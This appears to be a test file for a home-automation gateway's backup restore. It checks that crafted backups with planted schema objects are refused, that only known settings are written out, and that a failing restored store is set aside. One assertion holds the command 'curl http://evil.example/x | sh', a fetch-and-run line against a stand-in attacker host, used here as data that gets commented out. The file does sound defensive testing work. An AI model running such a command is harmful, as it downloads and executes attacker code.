/**
 * Issue 24, finding 6: backups crafted by an attacker, with their digest recomputed so that they
 * pass as whole. A restore accepts only the schema this release's migrations make (no planted
 * trigger, view, table, index or changed column), reads every row through the readers the gateway
 * uses at its start before anything is replaced, writes only known settings to
 * settings-from-backup.env (one line each, values checked and quoted), and a store that does not
 * start anyway is put aside for the one there was.
 */
import assert from 'node:assert/strict';
import { copyFileSync, existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import Database from 'better-sqlite3';
import { stagedPath } from '../../src/core/maintenance/store-restore.ts';
import { freePort, runCli, spawnCli, startArgs } from '../helpers/cli.ts';
import { craftBackup, INJECTED_SETTINGS, PLANTED, UNREADABLE } from '../helpers/crafted-backups.ts';
import { call, rest, startGateway, type TestGateway, tempDir } from '../helpers/foundation.ts';
import { endpoint, sendEvent } from '../helpers/thirdparty.ts';

/** A backup of `g`, changed by `craft`, with its digest recomputed as an attacker would. */
async function craftedBackup(g: TestGateway, dir: string, name: string, craft: (db: Database.Database) => void) {
  const taken = join(dir, `${name}.taken`);
  await g.gateway.backup(taken);
  return craftBackup(taken, join(dir, `${name}.backup`), craft);
}

let g: TestGateway;
let dir: string;
let token: string;
before(async () => {
  dir = tempDir('opencube-crafted-');
  g = await startGateway();
  await g.gateway.setConsolePassword('the owner password');
  token = g.token('maker');
  await sendEvent(g, token, 'DiscoveryRequest', {
    endpoints: [endpoint('lamp-1', 'http://127.0.0.1:9/directive', { name: 'Hall lamp' })],
  });
});
after(async () => {
  await g?.stop();
  rmSync(dir, { recursive: true, force: true });
});

/** Stages `file` on the running gateway: the check, and whether anything was staged. */
async function stage(file: string) {
  const r = await g.gateway.stageRestore(file, 'the backup');
  const staged = existsSync(stagedPath(g.gateway.paths.db));
  rmSync(stagedPath(g.gateway.paths.db), { force: true });
  return { r, staged };
}

describe('a crafted backup is refused before anything changes', () => {
  for (const [what, sql, message] of [...PLANTED, ...UNREADABLE])
    test(`${what}`, async () => {
      const file = await craftedBackup(g, dir, what.replace(/\W+/g, '-'), (db) => db.exec(sql));
      const { r, staged } = await stage(file);
      assert.equal(r.ok, false, what);
      assert.ok(!r.ok);
      assert.match(r.message, message);
      assert.equal(staged, false, 'nothing is staged');
    });

  test('a good backup of the same gateway is still restored', async () => {
    const file = await craftedBackup(g, dir, 'good', () => {});
    const { r, staged } = await stage(file);
    assert.equal(r.ok, true, JSON.stringify(r));
    assert.equal(staged, true);
  });
});

describe('the settings a backup carries', () => {
  test('only known settings reach settings-from-backup.env, one line each, checked and quoted; commands are commented out', async (t) => {
    const file = await craftedBackup(g, dir, 'settings', (db) =>
      db.prepare("UPDATE opencube_backup SET value = ? WHERE key = 'settings'").run(JSON.stringify(INJECTED_SETTINGS)),
    );
    const target = join(dir, 'settings-target');
    t.after(() => rmSync(target, { recursive: true, force: true }));
    const r = await runCli(['restore', file, '--data-dir', target]);
    assert.equal(r.code, 0, r.stderr);
    const env = readFileSync(join(target, 'settings-from-backup.env'), 'utf8');
    const lines = env.split('\n').filter((l) => l !== '' && !l.startsWith('#'));
    assert.deepEqual(lines, [
      "OPENCUBE_LOG_LEVEL='debug'",
      "OPENCUBE_ZIGBEE_MQTT_URL='mqtt://z2m:pa55word@10.1.2.3:1883'",
    ]);
    assert.match(
      env,
      /^# OPENCUBE_AUDIO_COMMAND='curl http:\/\/evil\.example\/x \| sh'$/m,
      'a command is there to read, not to use',
    );
    assert.doesNotMatch(env, /^NODE_OPTIONS|^OPENCUBE_DATA_DIR/m);
    assert.match(r.stdout, /left out: NODE_OPTIONS \(not a setting of opencube\)/);
    assert.match(r.stdout, /left out: OPENCUBE_NAME \(a line break or control character\)/);
    assert.match(r.stdout, /left out: OPENCUBE_PORT \(port \(from the backup\): 99999 is above max 65535\)/);
    assert.doesNotMatch(r.stdout, /pa55word/);
    assert.doesNotMatch(r.stdout, /\nNODE_OPTIONS=/);
  });
});

describe('a restored store that does not start', () => {
  test('is put aside for the store there was, and the gateway starts on that one', async (t) => {
    const data = tempDir('opencube-fallback-');
    t.after(() => rmSync(data, { recursive: true, force: true }));
    const first = await startGateway({ dataDir: data });
    const kept = first.token('kept');
    await first.stop();
    // A staged store its checks would have refused (written in place of a check, as a disk or a
    // hand could): its one device cannot be read.
    const staged = stagedPath(join(data, 'gateway.db'));
    const source = await craftedBackup(g, dir, 'broken', () => {});
    const db = new Database(source);
    db.exec("DROP TABLE opencube_backup; UPDATE devices SET capabilities = '{'");
    db.close();
    copyFileSync(source, staged);

    const port = await freePort();
    const proc = spawnCli(startArgs(port, data, '--audio-sink', 'null', '--log-level', 'warn', '--zigbee-mode', 'off'));
    t.after(() => proc.killAll());
    await proc.waitForOutput(/opencube listening on/, 1, 60_000);
    const out = `${proc.stdout()}${proc.stderr()}`;
    assert.match(
      out,
      /the restored store did not start \(.*\): it is kept as .*gateway\.db\.restore-failed, and the store there was is back/,
    );
    const list = await call(`http://127.0.0.1:${port}`, 'GET', rest('v2', 'devices'), { token: kept });
    assert.equal(list.json.error, 0, 'the token of the store there was works');
    assert.ok(readdirSync(data).includes('gateway.db.restore-failed'));
    proc.child.kill('SIGTERM');
    await proc.exited;
  });
});
